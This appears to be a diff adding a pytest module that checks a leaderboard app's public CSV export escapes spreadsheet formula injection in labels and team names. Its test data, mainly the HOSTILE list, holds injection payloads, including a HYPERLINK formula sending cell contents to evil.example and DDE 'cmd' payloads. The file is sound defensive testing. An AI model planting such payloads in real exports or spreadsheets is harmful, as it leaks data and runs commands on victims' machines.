@@ -1,0 +1,67 @@
+"""Public surfaces under hostile input: CSV formula injection, bounded leaderboard caches, the cached
+challenge overview, and integer path ids out of the database's range (SQLite and PostgreSQL)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pytest
+from fastapi.testclient import TestClient
+
+from api.db import session_scope
+from leaderboard_web.seed import add_submission
+from tests.leaderboard_helpers import arr, at, cases, make_app, make_challenge, make_team
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           "\t=1+1", "\r=1+1", " =1+1"]
+
+
+@pytest.fixture
+def app(settings):
+    return make_app(settings)
+
+
+@pytest.fixture
+def client(app):
+    with TestClient(app) as c:
+        yield c
+
+
+def _board_with_labels(url: str, labels: list[str], *, team_names: list[str] | None = None, slug: str = "c1") -> None:
+    cs = cases(4)
+    with session_scope(url) as s:
+        tr = make_challenge(s, slug=slug)["main"]
+        for i, label in enumerate(labels):
+            team = make_team(s, (team_names or [])[i] if team_names and i < len(team_names) else f"team {slug} {i}")
+            add_submission(s, track=tr, team=team, cases=cs, dsc=arr(0.9, 0.8, 0.7, 0.6 - i / 100),
+                           nsd=arr(0.9, 0.8, 0.7, 0.6), runtime=arr(1, 2, 3, 4), label=label, created_at=at(i))
+
+
+def test_public_csv_neutralises_formulas_in_labels_and_team_names(client, settings):
+    """A label or team name that a spreadsheet would run (=, +, -, @, tab, CR first) is quoted with a leading
+    apostrophe in the public CSV, exactly as the organizers' export does it (one function); numbers stay numbers."""
+    from api.csvsafe import csv_safe
+
+    _board_with_labels(settings.database_url, HOSTILE, team_names=["=cmd|' /C calc'!A0", "@team"])
+    r = client.get("/api/challenges/c1/tracks/main/leaderboard.csv")
+    assert r.status_code == 200, r.text
+    table = list(csv.reader(io.StringIO(r.text, newline="")))
+    head, rows = table[0], table[1:]
+    label_col, team_col = head.index("Submission"), head.index("Team")
+    labels = sorted(row[label_col] for row in rows)
+    assert labels == sorted("'" + h for h in HOSTILE), labels
+    teams = {row[team_col] for row in rows}
+    assert "'=cmd|' /C calc'!A0" in teams and "'@team" in teams
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
+            if cell.startswith("-"):
+                float(cell)  # only numbers may start with '-'
+    # one function for both CSVs: the organizers' export keeps using it
+    from api.admin import service as admin_service
+
+    assert admin_service.csv_safe is csv_safe
+    assert csv_safe("-0.012") == "-0.012" and csv_safe("+3") == "+3" and csv_safe("-x") == "'-x"
+    assert csv_safe("plain label") == "plain label"
